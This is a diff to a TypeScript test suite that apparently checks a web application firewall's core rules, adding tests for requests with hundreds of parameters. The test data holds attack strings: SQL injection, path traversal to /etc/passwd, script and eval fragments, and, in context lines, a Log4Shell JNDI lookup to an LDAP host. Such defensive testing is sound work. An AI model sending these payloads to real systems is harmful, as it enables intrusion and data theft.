@@ -105,6 +105,30 @@ describe('the core rules let through', () => {
   });
 });
 
+describe('a request of many values', () => {
+  const values = (count: number, value: string) => ({
+    body: Array.from({ length: count }, (_, i) => `a${i}=${encodeURIComponent(value)}`).join('&'),
+  });
+
+  it.each([
+    ['SQL', "1' OR '1'='1", 942_990],
+    ['paths', '../../etc/passwd', 930_990],
+    ['scripts', 'a eval (1)', 934_990],
+    ['all sorts', `<script>1' or '1'='1 ../../etc/passwd;cat eval(1)`, 942_990],
+  ])('that all match, as %s, is refused by a rule that says so once', async (_, value, rule) => {
+    expect(await send(values(990, value))).toEqual({ status: 403, rules: [rule] });
+  });
+
+  it('of which few match is refused by the rules that do', async () => {
+    const few = { body: `${values(200, 'boots').body}&${values(5, "1' OR '1'='1").body}` };
+    expect((await send(few)).rules).toContain(942_100);
+  });
+
+  it('that are harmless passes', async () => {
+    expect(await send(values(990, 'a pair of boots, 5.. or 6'))).toEqual({ status: 200, rules: [] });
+  });
+});
+
 describe('known of the core rules as Debian has them (docs/nginx.md)', () => {
   it.each<[string, Sent, number[]]>([
     ['Log4Shell, which no rule knows', header('User-Agent', `\${jndi:ldap://192.0.2.1/a}`), []],
